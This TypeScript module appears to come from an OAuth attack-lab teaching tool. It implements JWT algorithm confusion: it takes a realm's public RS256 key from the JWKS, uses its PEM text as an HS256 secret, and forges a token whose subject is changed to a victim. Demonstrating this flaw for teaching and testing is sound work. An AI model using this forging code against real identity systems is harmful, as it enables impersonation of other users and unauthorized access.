import { hs256Token, patched, readToken } from '@/lib/attack-lab/forge';
import { pemOfPublicJwk } from '@/lib/attack-lab/mallory-keys';
import { ok } from '@/lib/oauth-client/result';
import { ALGORITHM_CONFUSION_STEPS } from './algorithm-confusion.steps';
import { forgeFailed, VICTIM, VICTIM_NAME } from './mallory';
import { fetchRealmRsaKeys } from './mallory-keys';
import { tokenForgeryMachine, type Forger } from './token-forgery';

/**
 * RFC 8725 §2.1: Mallory reads the realm's public JWKS, takes its RS256 key as the PEM text a naive
 * RS loads, and uses those bytes as an HS256 secret. The key is public, so she can compute the MAC.
 */
export const forgeAlgorithmConfusion: Forger = async ({ step, own }) => {
  const read = readToken(own.tokens.access_token);
  if (!read.ok) return forgeFailed(step, read.message);
  const fetched = await fetchRealmRsaKeys(step, own.metadata.jwks_uri);
  if (!fetched.result.ok) return { ...fetched, result: fetched.result };
  const rsa = fetched.result.value[0];
  let pem: string;
  try {
    pem = await pemOfPublicJwk(rsa);
  } catch (e) {
    return {
      step,
      exchanges: fetched.exchanges,
      result: forgeFailed(step, `The RSA key could not be read: ${e instanceof Error ? e.message : String(e)}`).result,
    };
  }
  const header = patched(read.value.header, { alg: 'HS256', kid: typeof rsa.kid === 'string' ? rsa.kid : undefined });
  const token = await hs256Token({ header, payload: patched(read.value.payload, { sub: VICTIM }) }, new TextEncoder().encode(pem));
  const facts = [
    { label: 'Public key taken', value: `RS256 key ${String(rsa.kid ?? '(no kid)')} from the JWKS` },
    { label: 'HMAC secret', value: `its SPKI PEM text, ${pem.length} bytes, starting "${pem.split('\n')[0]}" (no trailing newline)` },
    { label: 'Header alg', value: `${String(read.value.header.alg)} → HS256` },
    { label: 'Claim sub', value: `${String(read.value.payload.sub)} → ${VICTIM}` },
  ];
  return {
    step,
    exchanges: fetched.exchanges,
    facts,
    result: ok({ token, victim: VICTIM, victimName: VICTIM_NAME, sent: 'the HS256 token keyed with the RS256 public key' }),
  };
};

export const algorithmConfusionMachine = tokenForgeryMachine('algorithmConfusion', ALGORITHM_CONFUSION_STEPS, forgeAlgorithmConfusion);
